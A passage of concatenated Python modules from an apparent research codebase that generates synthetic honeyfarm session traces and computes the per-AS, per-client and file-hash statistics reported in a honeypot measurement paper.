    gen.engine.emitter = emitter
    try:
        if shard.kind == "campaign":
            campaign = plan.campaigns_by_id[shard.key]
            days = sorted(campaign.schedule)
            for day in days[shard.start:shard.stop]:
                gen.engine.emit_campaign_day(
                    campaign, day, campaign.schedule[day]
                )
        elif shard.kind == "campaign_group":
            for r in plan.gen.realized[shard.start:shard.stop]:
                for day in sorted(r.schedule):
                    gen.engine.emit_campaign_day(r, day, r.schedule[day])
        elif shard.kind == "singletons":
            for w in plan.writers[shard.start:shard.stop]:
                gen._singleton_writer_emit(int(w))
        else:
            budgets = plan.budgets[shard.kind]
            base = gen.rng.child(shard.kind)
            pack = None
            for day in range(shard.start, shard.stop):
                n = int(budgets[day])
                if n <= 0:
                    continue
                rng = base.child(f"d{day}")
                if shard.kind == "no_cred":
                    gen._no_cred_day(rng, day, n)
                elif shard.kind == "fail_log":
                    gen._fail_log_day(
                        rng, day, n, plan.fail_log_baseline, plan.fail_log_spike
                    )
                elif shard.kind == "no_cmd":
                    gen._no_cmd_day(rng, day, n, plan.ru, plan.ru_pots)
                elif shard.kind == "bg_cmd":
                    if pack is None:
                        pack = gen._bg_cmd_profiles()
                    gen._bg_cmd_day(rng, day, n, pack)
                elif shard.kind == "bg_uri":
                    if pack is None:
                        pack = gen._bg_uri_profiles()
                    gen._bg_uri_day(rng, day, n, pack)
                else:
                    raise ValueError(f"unknown shard kind: {shard.kind}")
    finally:
        gen.builder, gen.emitter, gen.engine.emitter = saved
    emitter.flush()
    return fork.build()


# One plan per process, keyed by config. Set in the parent before the pool
# is created so fork-started workers inherit it; spawn-started workers
# rebuild it on their first shard.
_PLAN: Optional[ShardPlan] = None


def _plan_for(config: ScenarioConfig) -> ShardPlan:
    global _PLAN
    if _PLAN is None or _PLAN.gen.config != config:
        _PLAN = ShardPlan(TraceGenerator(config))
    return _PLAN


def _emit_indexed(task: Tuple[ScenarioConfig, int, bool]):
    """Worker entry: emit one shard plus the metrics/trace it recorded.

    The shard is emitted under a fresh registry (plan construction, which a
    spawn-started worker redoes once, stays outside it), whose dict form
    travels back with the store so the parent can merge worker-side
    counters and stage timings in shard order.  With ``want_trace`` the
    shard also records under a fresh flight recorder whose event list
    travels back the same way — the ``want_trace`` flag rides in the task
    (not process state) so spawn-started workers honour it too.
    """
    config, index, want_trace = task
    plan = _plan_for(config)
    shard = plan.shards[index]
    with use_metrics() as metrics:
        if want_trace:
            with _trace.use_tracer(_trace.Tracer()) as tracer:
                tracer.emit(
                    "shard.emit",
                    trace_id=f"shard:{shard.kind}:{shard.key}:{shard.start}",
                    shard_kind=shard.kind, key=shard.key,
                    start=shard.start, stop=shard.stop,
                )
                store = emit_shard(plan, shard)
            events = tracer.to_list()
        else:
            store = emit_shard(plan, shard)
            events = None
    return store, metrics.to_dict(), events


def generate_sharded(
    config: Optional[ScenarioConfig] = None, workers: int = 1
) -> HoneyfarmDataset:
    """Generate the sharded trace with ``workers`` processes.

    The output is bit-identical for every ``workers`` value: shards are
    emitted from named rng streams and merged in enumeration order, so
    scheduling cannot influence the result.

    Since the :mod:`repro.sched` redesign this is a thin wrapper over
    :func:`repro.sched.scheduler.generate_scheduled` — ``workers == 1``
    runs the in-process :class:`~repro.sched.backends.InlineBackend`,
    anything larger the multiprocess pool (the pool this module used to
    hard-wire).  Pick other backends through :func:`repro.api.generate`.
    """
    from repro.sched.scheduler import generate_scheduled

    config = config or ScenarioConfig()
    workers = max(1, int(workers))
    backend = "inline" if workers == 1 else "pool"
    return generate_scheduled(config, backend=backend, workers=workers)
