"""A minimal TCP connection model.

Each honeyfarm session starts with a completed TCP three-way handshake on
port 22 (SSH) or 23 (Telnet) — this is what lets the paper treat client
addresses as non-spoofed.  We model only what the dataset records: handshake
completion (with RTT-dependent latency), the established state, and the two
ways a session ends (client FIN/RST vs. honeypot timeout).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Optional

from repro.simulation.rng import RngStream

SSH_PORT = 22
TELNET_PORT = 23


class TcpState(enum.Enum):
    CLOSED = "closed"
    SYN_SENT = "syn_sent"
    ESTABLISHED = "established"
    CLOSED_BY_CLIENT = "closed_by_client"
    CLOSED_BY_SERVER = "closed_by_server"
    RESET = "reset"


@dataclass
class HandshakeResult:
    """Outcome of a three-way handshake attempt."""

    success: bool
    rtt: float
    elapsed: float


@dataclass
class TcpConnection:
    """State of one client↔honeypot TCP connection."""

    client_ip: int
    client_port: int
    server_ip: int
    server_port: int
    established_at: Optional[float] = None
    closed_at: Optional[float] = None
    state: TcpState = field(default=TcpState.CLOSED)

    def establish(self, now: float) -> None:
        if self.state is not TcpState.CLOSED:
            raise RuntimeError(f"cannot establish from state {self.state}")
        self.state = TcpState.ESTABLISHED
        self.established_at = now

    def close_by_client(self, now: float) -> None:
        self._close(now, TcpState.CLOSED_BY_CLIENT)

    def close_by_server(self, now: float) -> None:
        self._close(now, TcpState.CLOSED_BY_SERVER)

    def reset(self, now: float) -> None:
        self._close(now, TcpState.RESET)

    def _close(self, now: float, state: TcpState) -> None:
        if self.state is not TcpState.ESTABLISHED:
            raise RuntimeError(f"cannot close from state {self.state}")
        self.state = state
        self.closed_at = now

    @property
    def is_open(self) -> bool:
        return self.state is TcpState.ESTABLISHED

    @property
    def duration(self) -> Optional[float]:
        if self.established_at is None or self.closed_at is None:
            return None
        return self.closed_at - self.established_at


class TcpModel:
    """Generates handshake outcomes with RTT drawn from distance class.

    ``rtt_base`` approximates propagation delay between client and honeypot
    regions; jitter is lognormal.  Handshakes essentially always succeed in
    the dataset (only successful ones create sessions), but the model keeps a
    small loss probability so the interactive path exercises the failure
    branch too.
    """

    #: Rough one-way RTT bases (seconds) by geographic relationship.
    RTT_SAME_COUNTRY = 0.015
    RTT_SAME_CONTINENT = 0.045
    RTT_CROSS_CONTINENT = 0.160

    def __init__(self, rng: RngStream, loss_probability: float = 0.002):
        self.rng = rng
        self.loss_probability = loss_probability

    def rtt_for(self, same_country: bool, same_continent: bool) -> float:
        if same_country:
            base = self.RTT_SAME_COUNTRY
        elif same_continent:
            base = self.RTT_SAME_CONTINENT
        else:
            base = self.RTT_CROSS_CONTINENT
        jitter = self.rng.lognormal(0.0, 0.35)
        return base * jitter

    def handshake(self, same_country: bool = False, same_continent: bool = False) -> HandshakeResult:
        rtt = self.rtt_for(same_country, same_continent)
        if self.rng.bernoulli(self.loss_probability):
            # SYN or SYN-ACK lost and not retried: no session is created.
            return HandshakeResult(success=False, rtt=rtt, elapsed=3.0)
        # 1.5 RTT to complete SYN / SYN-ACK / ACK.
        return HandshakeResult(success=True, rtt=rtt, elapsed=1.5 * rtt)
