"""Address-pool allocation for placing simulated hosts in IPv4 space.

The synthetic geo database (:mod:`repro.geo`) carves the documentation-safe
ranges of IPv4 space into per-country, per-AS prefixes.  These allocators
hand out prefixes and individual addresses deterministically.
"""

from __future__ import annotations

from typing import Dict, Iterator, List, Optional

from repro.net.ip import IPv4Prefix
from repro.simulation.rng import RngStream


class PrefixAllocator:
    """Splits a parent prefix into equally sized child prefixes on demand."""

    def __init__(self, parent: IPv4Prefix, child_length: int):
        if child_length < parent.length:
            raise ValueError(
                f"child /{child_length} larger than parent /{parent.length}"
            )
        self.parent = parent
        self.child_length = child_length
        self._iter: Iterator[IPv4Prefix] = parent.subnets(child_length)
        self._allocated: List[IPv4Prefix] = []

    @property
    def capacity(self) -> int:
        return 1 << (self.child_length - self.parent.length)

    @property
    def allocated(self) -> List[IPv4Prefix]:
        return list(self._allocated)

    def allocate(self) -> IPv4Prefix:
        try:
            prefix = next(self._iter)
        except StopIteration:
            raise RuntimeError(
                f"prefix allocator for {self.parent} exhausted "
                f"({self.capacity} x /{self.child_length})"
            ) from None
        self._allocated.append(prefix)
        return prefix


class AddressPool:
    """Hands out distinct addresses from a set of prefixes.

    Supports both sequential allocation (used for honeypot placement, so the
    farm layout is stable) and random sampling without replacement (used for
    attacker populations, so client addresses look scattered inside their
    origin networks).
    """

    def __init__(self, prefixes: List[IPv4Prefix]):
        if not prefixes:
            raise ValueError("address pool needs at least one prefix")
        self.prefixes = list(prefixes)
        self._sizes = [p.num_addresses for p in self.prefixes]
        self._total = sum(self._sizes)
        self._next_offset = 0
        self._used: set = set()

    @property
    def capacity(self) -> int:
        return self._total

    @property
    def used_count(self) -> int:
        return len(self._used) + self._next_offset

    def _address_at(self, global_offset: int) -> int:
        for prefix, size in zip(self.prefixes, self._sizes):
            if global_offset < size:
                return prefix.address_at(global_offset)
            global_offset -= size
        raise IndexError("offset beyond pool capacity")

    def allocate_sequential(self) -> int:
        """Allocate the next unused address in prefix order."""
        while self._next_offset < self._total:
            addr = self._address_at(self._next_offset)
            self._next_offset += 1
            if addr not in self._used:
                return addr
        raise RuntimeError("address pool exhausted")

    def sample(self, rng: RngStream) -> int:
        """Sample a random unused address from the pool."""
        remaining = self._total - self.used_count
        if remaining <= 0:
            raise RuntimeError("address pool exhausted")
        # Rejection-sample; pools are never loaded anywhere near capacity.
        for _ in range(64):
            offset = rng.randint(0, self._total)
            addr = self._address_at(offset)
            if addr not in self._used:
                self._used.add(addr)
                return addr
        # Dense fallback: walk for a free slot.
        for offset in range(self._total):
            addr = self._address_at(offset)
            if addr not in self._used:
                self._used.add(addr)
                return addr
        raise RuntimeError("address pool exhausted")

    def sample_many(self, rng: RngStream, count: int) -> List[int]:
        return [self.sample(rng) for _ in range(count)]

    def contains(self, address: int) -> bool:
        return any(p.contains(address) for p in self.prefixes)


class PoolRegistry:
    """Named address pools (one per simulated AS)."""

    def __init__(self) -> None:
        self._pools: Dict[str, AddressPool] = {}

    def register(self, name: str, pool: AddressPool) -> None:
        if name in self._pools:
            raise ValueError(f"pool {name!r} already registered")
        self._pools[name] = pool

    def get(self, name: str) -> Optional[AddressPool]:
        return self._pools.get(name)

    def __getitem__(self, name: str) -> AddressPool:
        return self._pools[name]

    def __contains__(self, name: str) -> bool:
        return name in self._pools

    def names(self) -> List[str]:
        return list(self._pools)
