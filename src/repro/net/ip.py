"""Integer-backed IPv4 addresses and prefixes.

The trace contains millions of client addresses, so addresses are plain
``int`` values wrapped in a frozen dataclass only at API boundaries; all bulk
code paths pass integers.  This module provides parsing/formatting and CIDR
prefix arithmetic without pulling in :mod:`ipaddress` object overhead.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator

MAX_IPV4 = 0xFFFFFFFF


def parse_ip(text: str) -> int:
    """Parse dotted-quad IPv4 text into its integer value.

    >>> parse_ip("10.0.0.1")
    167772161
    """
    parts = text.split(".")
    if len(parts) != 4:
        raise ValueError(f"invalid IPv4 address {text!r}")
    value = 0
    for part in parts:
        if not part.isdigit():
            raise ValueError(f"invalid IPv4 address {text!r}")
        octet = int(part)
        if octet > 255 or (len(part) > 1 and part[0] == "0"):
            raise ValueError(f"invalid IPv4 address {text!r}")
        value = (value << 8) | octet
    return value


def format_ip(value: int) -> str:
    """Format an integer IPv4 value as dotted-quad text.

    >>> format_ip(167772161)
    '10.0.0.1'
    """
    if not 0 <= value <= MAX_IPV4:
        raise ValueError(f"IPv4 integer out of range: {value!r}")
    return f"{(value >> 24) & 0xFF}.{(value >> 16) & 0xFF}.{(value >> 8) & 0xFF}.{value & 0xFF}"


@dataclass(frozen=True, order=True)
class IPv4Address:
    """A single IPv4 address. Compact wrapper over an integer value."""

    value: int

    def __post_init__(self) -> None:
        if not 0 <= self.value <= MAX_IPV4:
            raise ValueError(f"IPv4 integer out of range: {self.value!r}")

    @classmethod
    def parse(cls, text: str) -> "IPv4Address":
        return cls(parse_ip(text))

    def __str__(self) -> str:
        return format_ip(self.value)

    def __int__(self) -> int:
        return self.value


@dataclass(frozen=True, order=True)
class IPv4Prefix:
    """A CIDR prefix, e.g. ``192.0.2.0/24``."""

    network: int
    length: int

    def __post_init__(self) -> None:
        if not 0 <= self.length <= 32:
            raise ValueError(f"invalid prefix length {self.length!r}")
        mask = self.mask
        if self.network & ~mask & MAX_IPV4:
            raise ValueError(
                f"network {format_ip(self.network)} has host bits set for /{self.length}"
            )

    @classmethod
    def parse(cls, text: str) -> "IPv4Prefix":
        try:
            addr_text, len_text = text.split("/")
        except ValueError:
            raise ValueError(f"invalid prefix {text!r}") from None
        return cls(parse_ip(addr_text), int(len_text))

    @property
    def mask(self) -> int:
        if self.length == 0:
            return 0
        return (MAX_IPV4 << (32 - self.length)) & MAX_IPV4

    @property
    def num_addresses(self) -> int:
        return 1 << (32 - self.length)

    @property
    def first(self) -> int:
        return self.network

    @property
    def last(self) -> int:
        return self.network + self.num_addresses - 1

    def contains(self, address: int) -> bool:
        return (address & self.mask) == self.network

    def __contains__(self, address) -> bool:
        return self.contains(int(address))

    def address_at(self, offset: int) -> int:
        """The integer address ``offset`` positions into the prefix."""
        if not 0 <= offset < self.num_addresses:
            raise IndexError(f"offset {offset} out of range for /{self.length}")
        return self.network + offset

    def subnets(self, new_length: int) -> Iterator["IPv4Prefix"]:
        """Iterate the /new_length subnets of this prefix."""
        if new_length < self.length or new_length > 32:
            raise ValueError(f"cannot split /{self.length} into /{new_length}")
        step = 1 << (32 - new_length)
        for net in range(self.network, self.network + self.num_addresses, step):
            yield IPv4Prefix(net, new_length)

    def __str__(self) -> str:
        return f"{format_ip(self.network)}/{self.length}"
