"""Network substrate: IPv4 addressing, prefixes, pools, and a TCP model.

The honeyfarm's dataset is keyed by client IPv4 addresses; sessions begin
with a completed TCP handshake (which is why the paper can rule out spoofed
sources).  This package provides a compact integer-backed IPv4
representation, prefix arithmetic, address-pool allocators used to place
honeypots and attackers into address space, and a small TCP connection model
with handshake latency used by the interactive simulation path.
"""

from repro.net.ip import IPv4Address, IPv4Prefix, parse_ip, format_ip
from repro.net.pools import AddressPool, PrefixAllocator
from repro.net.tcp import TcpConnection, TcpState, HandshakeResult, TcpModel, SSH_PORT, TELNET_PORT

__all__ = [
    "IPv4Address",
    "IPv4Prefix",
    "parse_ip",
    "format_ip",
    "AddressPool",
    "PrefixAllocator",
    "TcpConnection",
    "TcpState",
    "HandshakeResult",
    "TcpModel",
    "SSH_PORT",
    "TELNET_PORT",
]
