"""AS-level client analyses (paper Sections 5 & 7).

The paper reports per-category AS population sizes (NO_CRED clients from
14k ASes, FAIL_LOG 11.7k, CMD 10.6k, NO_CMD 8.5k, CMD+URI 1.3k) and
discloses "the number of IPs and hashes associated with anonymized ASes
and each network type".  This module reproduces those aggregations against
the synthetic registry.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store
from repro.core.hashes import HashOccurrences
from repro.geo.registry import GeoRegistry, NetworkType
from repro.store.store import SessionStore


def as_counts_by_category(store: StoreOrContext) -> Dict[str, int]:
    """Unique client ASes per session category."""
    ctx = as_context(store)
    store = ctx.store
    out: Dict[str, int] = {}
    for i, cat in enumerate(CATEGORIES):
        asns = store.client_asn[ctx.category_mask(i)]
        out[cat.value] = len(np.unique(asns[asns >= 0]))
    return out


def ips_per_as(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> Dict[int, int]:
    """Unique client IPs per origin AS (anonymised AS disclosure)."""
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    asns = store.client_asn if mask is None else store.client_asn[mask]
    valid = asns >= 0
    key = (asns[valid].astype(np.uint64) << np.uint64(32)) | ips[valid].astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_asn = (unique_pairs >> np.uint64(32)).astype(np.int64)
    asn_ids, counts = np.unique(pair_asn, return_counts=True)
    return {int(a): int(c) for a, c in zip(asn_ids, counts)}


def hashes_per_as(occ: HashOccurrences) -> Dict[int, int]:
    """Unique file hashes produced from each origin AS."""
    store = occ.store
    asns = store.client_asn[occ.session_idx]
    valid = asns >= 0
    key = (asns[valid].astype(np.uint64) << np.uint64(32)) | \
        occ.hash_id[valid].astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_asn = (unique_pairs >> np.uint64(32)).astype(np.int64)
    asn_ids, counts = np.unique(pair_asn, return_counts=True)
    return {int(a): int(c) for a, c in zip(asn_ids, counts)}


@dataclass
class NetworkTypeBreakdown:
    """Client IPs and sessions per network type."""

    ips: Dict[str, int]
    sessions: Dict[str, int]

    def ip_share(self, network_type: NetworkType) -> float:
        total = sum(self.ips.values())
        if total == 0:
            return 0.0
        return self.ips.get(network_type.value, 0) / total


def network_type_breakdown(
    store: SessionStore, registry: GeoRegistry
) -> NetworkTypeBreakdown:
    """Aggregate client activity by the origin AS's network type."""
    type_of_asn: Dict[int, str] = {
        record.asn: record.network_type.value for record in registry.records()
    }
    sessions: Dict[str, int] = {}
    seen_pairs = set()
    ips: Dict[str, int] = {}
    asn_col = store.client_asn
    ip_col = store.client_ip
    for i in range(len(store)):
        ntype = type_of_asn.get(int(asn_col[i]))
        if ntype is None:
            continue
        sessions[ntype] = sessions.get(ntype, 0) + 1
        pair = (int(asn_col[i]), int(ip_col[i]))
        if pair not in seen_pairs:
            seen_pairs.add(pair)
            ips[ntype] = ips.get(ntype, 0) + 1
    return NetworkTypeBreakdown(ips=ips, sessions=sessions)


def top_ases(
    store: StoreOrContext, k: int = 10, mask: Optional[np.ndarray] = None
) -> List[Tuple[int, int]]:
    """(asn, unique client IPs) for the busiest origin ASes."""
    per_as = ips_per_as(store, mask)
    return sorted(per_as.items(), key=lambda kv: -kv[1])[:k]
