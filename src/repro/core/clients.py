"""Client-IP analyses (paper Section 7, Figures 10-15).

All computations are vectorised over the columnar store: unique-IP
population sizes, per-country distributions (overall and per category),
daily unique-IP series, pots-per-client and days-per-client ECDFs,
clients-per-honeypot curves, and the daily category-combination counts.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store
from repro.core.ecdf import Ecdf


def unique_clients(store: StoreOrContext, mask: Optional[np.ndarray] = None) -> np.ndarray:
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    return np.unique(ips)


def unique_client_count(store: StoreOrContext, mask: Optional[np.ndarray] = None) -> int:
    return len(unique_clients(store, mask))


def unique_as_count(store: StoreOrContext, mask: Optional[np.ndarray] = None) -> int:
    store = as_store(store)
    asns = store.client_asn if mask is None else store.client_asn[mask]
    return len(np.unique(asns[asns >= 0]))


def clients_per_country(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> Dict[str, int]:
    """Unique client IPs per country (Figure 10 / 23)."""
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    countries = store.client_country if mask is None else store.client_country[mask]
    # Unique (ip, country) pairs; an IP has a single country by construction.
    key = ips.astype(np.uint64) << np.uint64(16)
    key |= countries.astype(np.uint64)
    unique_keys = np.unique(key)
    country_ids = (unique_keys & np.uint64(0xFFFF)).astype(np.int64)
    counts = np.bincount(country_ids, minlength=len(store.countries))
    return {
        store.countries.value_of(i): int(c)
        for i, c in enumerate(counts)
        if c > 0
    }


def clients_per_country_by_category(store: StoreOrContext) -> Dict[str, Dict[str, int]]:
    """Figure 23: per-category country distribution of client IPs."""
    ctx = as_context(store)
    out: Dict[str, Dict[str, int]] = {}
    for i, cat in enumerate(CATEGORIES):
        out[cat.value] = clients_per_country(ctx.store, ctx.category_mask(i))
    return out


def daily_unique_ips(store: StoreOrContext) -> Dict[str, np.ndarray]:
    """Figure 11: unique client IPs per day per category."""
    ctx = as_context(store)
    store = ctx.store
    n_days = store.n_days
    out: Dict[str, np.ndarray] = {}
    for i, cat in enumerate(CATEGORIES):
        mask = ctx.category_mask(i)
        days = store.day[mask].astype(np.uint64)
        ips = store.client_ip[mask].astype(np.uint64)
        key = (ips << np.uint64(16)) | days
        unique_keys = np.unique(key)
        day_of_key = (unique_keys & np.uint64(0xFFFF)).astype(np.int64)
        out[cat.value] = np.bincount(day_of_key, minlength=n_days)
    return out


def honeypots_per_client(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> np.ndarray:
    """Distinct honeypots contacted per client IP (Figure 12 sample)."""
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    pots = store.honeypot if mask is None else store.honeypot[mask]
    key = (ips.astype(np.uint64) << np.uint64(16)) | pots.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_ips = (unique_pairs >> np.uint64(16))
    _, counts = np.unique(pair_ips, return_counts=True)
    return counts


def honeypots_per_client_ecdfs(store: StoreOrContext) -> Dict[str, Ecdf]:
    """Figure 12: ECDF of pots contacted per client, overall + per category."""
    ctx = as_context(store)
    out = {"ALL": Ecdf(ctx.pots_per_client)}
    for i, cat in enumerate(CATEGORIES):
        out[cat.value] = Ecdf(honeypots_per_client(ctx.store, ctx.category_mask(i)))
    return out


def days_per_client(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> np.ndarray:
    """Distinct active days per client IP (Figure 13 sample)."""
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    days = store.day if mask is None else store.day[mask]
    key = (ips.astype(np.uint64) << np.uint64(16)) | days.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_ips = unique_pairs >> np.uint64(16)
    _, counts = np.unique(pair_ips, return_counts=True)
    return counts


def days_per_client_ecdfs(store: StoreOrContext) -> Dict[str, Ecdf]:
    """Figure 13: ECDF of active days per client, overall + per category."""
    ctx = as_context(store)
    out = {"ALL": Ecdf(ctx.days_per_client)}
    for i, cat in enumerate(CATEGORIES):
        out[cat.value] = Ecdf(days_per_client(ctx.store, ctx.category_mask(i)))
    return out


def clients_per_honeypot(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> np.ndarray:
    """Unique client IPs per honeypot (Figure 14)."""
    store = as_store(store)
    ips = store.client_ip if mask is None else store.client_ip[mask]
    pots = store.honeypot if mask is None else store.honeypot[mask]
    key = (ips.astype(np.uint64) << np.uint64(16)) | pots.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_pots = (unique_pairs & np.uint64(0xFFFF)).astype(np.int64)
    return np.bincount(pair_pots, minlength=store.n_honeypots)


@dataclass
class ClientsPerHoneypot:
    """Figure 14's curves: clients per pot, overall and per category."""

    overall: np.ndarray
    per_category: Dict[str, np.ndarray]
    sessions: np.ndarray

    @property
    def order(self) -> np.ndarray:
        """Honeypot indices sorted by overall client count, descending."""
        return np.argsort(self.overall)[::-1]


def clients_per_honeypot_report(store: StoreOrContext) -> ClientsPerHoneypot:
    ctx = as_context(store)
    store = ctx.store
    per_category = {
        cat.value: clients_per_honeypot(store, ctx.category_mask(i))
        for i, cat in enumerate(CATEGORIES)
    }
    return ClientsPerHoneypot(
        overall=clients_per_honeypot(store),
        per_category=per_category,
        sessions=np.bincount(store.honeypot, minlength=store.n_honeypots),
    )


def multi_category_share(store: StoreOrContext) -> float:
    """Fraction of client IPs appearing in more than one category."""
    ctx = as_context(store)
    store = ctx.store
    codes = ctx.category_codes
    key = (store.client_ip.astype(np.uint64) << np.uint64(8)) | codes.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_ips = unique_pairs >> np.uint64(8)
    _, counts = np.unique(pair_ips, return_counts=True)
    if len(counts) == 0:
        return 0.0
    return float((counts > 1).mean())


#: The category combinations Figure 15 tracks (over NO_CRED/FAIL_LOG/CMD).
FIG15_COMBOS = [
    ("NO_CRED",), ("FAIL_LOG",), ("CMD",),
    ("NO_CRED", "FAIL_LOG"), ("NO_CRED", "CMD"), ("FAIL_LOG", "CMD"),
    ("NO_CRED", "FAIL_LOG", "CMD"),
]


def daily_category_combinations(store: StoreOrContext) -> Dict[Tuple[str, ...], np.ndarray]:
    """Figure 15: clients per category-combination per day.

    For each day, clients are assigned the exact set of categories (among
    NO_CRED, FAIL_LOG, CMD) they participated in that day.
    """
    ctx = as_context(store)
    store = ctx.store
    tracked = {"NO_CRED": 1, "FAIL_LOG": 2, "CMD": 4}
    bit = np.zeros(len(store), dtype=np.uint64)
    for i, cat in enumerate(CATEGORIES):
        if cat.value in tracked:
            bit[ctx.category_mask(i)] = tracked[cat.value]
    mask = bit > 0
    key = (
        (store.client_ip[mask].astype(np.uint64) << np.uint64(16))
        | store.day[mask].astype(np.uint64)
    )
    order = np.argsort(key)
    sorted_key = key[order]
    sorted_bits = bit[mask][order]
    # OR the bits within each (ip, day) group.
    group_start = np.concatenate(([True], sorted_key[1:] != sorted_key[:-1]))
    group_ids = np.cumsum(group_start) - 1
    n_groups = group_ids[-1] + 1 if len(group_ids) else 0
    combo = np.zeros(n_groups, dtype=np.uint64)
    np.bitwise_or.at(combo, group_ids, sorted_bits)
    group_day = (sorted_key[group_start] & np.uint64(0xFFFF)).astype(np.int64)

    n_days = store.n_days
    out: Dict[Tuple[str, ...], np.ndarray] = {}
    for combo_names in FIG15_COMBOS:
        combo_bits = np.uint64(sum(tracked[c] for c in combo_names))
        member = combo == combo_bits
        out[combo_names] = np.bincount(group_day[member], minlength=n_days)
    return out


def clients_overall_summary(store: StoreOrContext) -> Dict[str, float]:
    """Headline client numbers from Section 7."""
    ctx = as_context(store)
    store = ctx.store
    total = unique_client_count(store)
    pots_counts = ctx.pots_per_client
    days_counts = ctx.days_per_client
    n_pots = store.n_honeypots
    return {
        "unique_ips": total,
        "unique_ases": unique_as_count(store),
        "share_single_pot": float((pots_counts == 1).mean()) if total else 0.0,
        "share_over_10_pots": float((pots_counts > 10).mean()) if total else 0.0,
        "share_over_half_pots": (
            float((pots_counts > n_pots / 2).mean()) if total else 0.0
        ),
        "share_single_day": float((days_counts == 1).mean()) if total else 0.0,
        "multi_category_share": multi_category_share(ctx),
    }
