"""Empirical cumulative distribution functions.

The paper reports several ECDFs (session durations, pots-per-client,
days-per-client, campaign lengths).  :class:`Ecdf` wraps a sorted sample
with evaluation, quantile and summary helpers.
"""

from __future__ import annotations

from typing import Iterable, List, Sequence, Tuple

import numpy as np


class Ecdf:
    """Empirical CDF of a one-dimensional sample."""

    def __init__(self, values: Iterable[float]):
        data = np.asarray(list(values) if not isinstance(values, np.ndarray) else values,
                          dtype=float)
        self.values = np.sort(data)
        self.n = len(self.values)

    def __call__(self, x: float) -> float:
        """P(X <= x)."""
        if self.n == 0:
            return 0.0
        return float(np.searchsorted(self.values, x, side="right")) / self.n

    def evaluate(self, xs: Sequence[float]) -> np.ndarray:
        if self.n == 0:
            return np.zeros(len(xs))
        return np.searchsorted(self.values, xs, side="right") / self.n

    def quantile(self, q: float) -> float:
        """Inverse CDF (q in [0, 1])."""
        if self.n == 0:
            raise ValueError("empty ECDF has no quantiles")
        if not 0.0 <= q <= 1.0:
            raise ValueError(f"quantile {q} outside [0, 1]")
        idx = min(int(np.ceil(q * self.n)) - 1, self.n - 1)
        return float(self.values[max(idx, 0)])

    @property
    def median(self) -> float:
        return self.quantile(0.5)

    def survival(self, x: float) -> float:
        """P(X > x)."""
        return 1.0 - self(x)

    def steps(self) -> Tuple[np.ndarray, np.ndarray]:
        """(x, F(x)) step coordinates for plotting / printing."""
        if self.n == 0:
            return np.zeros(0), np.zeros(0)
        ys = np.arange(1, self.n + 1) / self.n
        return self.values, ys

    def summary(self, points: Sequence[float] = (0.05, 0.25, 0.5, 0.75, 0.95)) -> List[Tuple[float, float]]:
        """[(q, value)] at the requested quantiles."""
        return [(q, self.quantile(q)) for q in points]
