"""File-hash / attack-campaign analyses (Figures 18-22, Tables 4-6).

The honeypot records a content hash whenever a client command creates or
modifies a file; hashes act as campaign signatures.  This module builds the
per-hash statistics the paper reports: session counts, unique client IPs,
active days, honeypot coverage, and threat tags — plus the per-honeypot and
per-client long-tail views.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.core.ecdf import Ecdf
from repro.intel.database import IntelDatabase
from repro.intel.tags import ThreatTag
from repro.store.store import SessionStore


@dataclass
class HashOccurrences:
    """Flattened (session, hash) incidence, the basis of all hash analyses."""

    session_idx: np.ndarray  # int64
    hash_id: np.ndarray  # int64
    store: SessionStore = field(repr=False)

    @classmethod
    def build(cls, store: SessionStore) -> "HashOccurrences":
        col = store.hash_ids
        values = col.values
        if not len(values):
            return cls(
                session_idx=np.zeros(0, dtype=np.int64),
                hash_id=np.zeros(0, dtype=np.int64),
                store=store,
            )
        session_of = np.repeat(
            np.arange(len(col), dtype=np.int64), col.lengths
        )
        # Dedup repeated hashes within a session while keeping rows in
        # (session order, first-seen-within-session order): unique
        # (session, hash) pairs keyed jointly, reduced to their first flat
        # position, then emitted in position order.
        base = np.int64(max(len(store.hashes), int(values.max()) + 1))
        _, first = np.unique(session_of * base + values, return_index=True)
        first.sort()
        return cls(
            session_idx=session_of[first],
            hash_id=values[first],
            store=store,
        )

    def __len__(self) -> int:
        return len(self.session_idx)

    @property
    def n_hashes(self) -> int:
        return len(np.unique(self.hash_id))


@dataclass
class HashStats:
    """Per-hash aggregates (rows of Tables 4-6)."""

    hash_id: np.ndarray
    sessions: np.ndarray
    clients: np.ndarray
    days: np.ndarray
    honeypots: np.ndarray
    first_day: np.ndarray
    last_day: np.ndarray

    def __len__(self) -> int:
        return len(self.hash_id)

    def top_by(self, column: str, k: int = 20) -> np.ndarray:
        """Indices of the top-``k`` hashes by a column, descending."""
        values = getattr(self, column)
        order = np.argsort(values, kind="stable")[::-1]
        return order[:k]


def _unique_pair_counts(
    hash_id: np.ndarray, other: np.ndarray, n_hashes: int
) -> np.ndarray:
    """Count distinct ``other`` values per hash id."""
    key = (hash_id.astype(np.uint64) << np.uint64(34)) | other.astype(np.uint64)
    unique_pairs = np.unique(key)
    pair_hash = (unique_pairs >> np.uint64(34)).astype(np.int64)
    return np.bincount(pair_hash, minlength=n_hashes)


def compute_hash_stats(occ: HashOccurrences) -> HashStats:
